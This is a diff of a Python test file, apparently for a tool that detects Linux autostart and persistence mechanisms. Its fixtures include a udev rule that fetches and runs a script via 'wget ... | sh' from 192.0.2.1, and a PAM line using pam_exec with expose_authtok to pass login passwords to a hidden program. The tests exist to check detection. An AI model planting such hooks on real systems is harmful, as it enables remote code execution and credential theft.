@@ -241,3 +241,12 @@ def test_hooks_and_rules_name_their_programs_in_quotes() -> None:
     assert [droppers.sign(line) for line in linux_autostarts.parse_quoted(hook)] == ["smuggled"]
     rule = 'ACTION=="add", RUN+="/bin/sh -c \'wget -qO- http://192.0.2.1/x | sh\'"\n'
     assert "smuggled" in [droppers.sign(line) for line in linux_autostarts.parse_quoted(rule)]
+
+
+def test_what_signing_in_starts() -> None:
+    text = (
+        "auth optional pam_exec.so quiet expose_authtok /usr/lib/.p/log\n"
+        "session optional pam_exec.so type=open_session /usr/bin/notify --login\n"
+        "# auth optional pam_exec.so /tmp/x\nauth required pam_unix.so\n"
+    )
+    assert list(linux_autostarts.parse_pam(text)) == ["/usr/lib/.p/log", "/usr/bin/notify --login"]
